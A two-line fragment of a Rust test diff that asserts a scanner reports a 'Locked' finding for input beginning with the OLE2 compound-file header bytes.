+    assert_eq!(run(&[0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).0.err(), Some(FindingCode::Locked));
+}
